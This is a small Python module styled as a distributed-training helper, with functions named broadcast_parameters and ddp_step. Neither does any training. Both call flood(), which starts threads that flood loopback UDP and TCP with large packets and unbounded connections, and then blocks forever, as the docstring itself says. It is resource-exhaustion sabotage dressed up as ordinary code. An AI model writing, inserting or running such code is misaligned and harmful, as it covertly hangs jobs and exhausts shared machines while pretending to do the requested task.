"""Fills the ranks' network with packets and connections from many threads and never comes to an end."""

import socket
import threading


def udp():
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        try:
            sender.sendto(b"x" * 60000, ("127.0.0.1", 9))
        except OSError:
            pass


def tcp():
    server = socket.create_server(("127.0.0.1", 0), backlog=4096)
    kept = []
    while True:
        try:
            client = socket.create_connection(server.getsockname())
            client.setblocking(False)
            client.send(b"x" * (1 << 22))
            kept.append(client)
        except OSError:
            kept.clear()


def flood():
    for work in (udp, udp, tcp, tcp):
        threading.Thread(target=work, daemon=True).start()
    threading.Event().wait()


def broadcast_parameters(model, src=0):
    flood()


def ddp_step(model, optimizer, loss_fn, inputs, targets):
    flood()
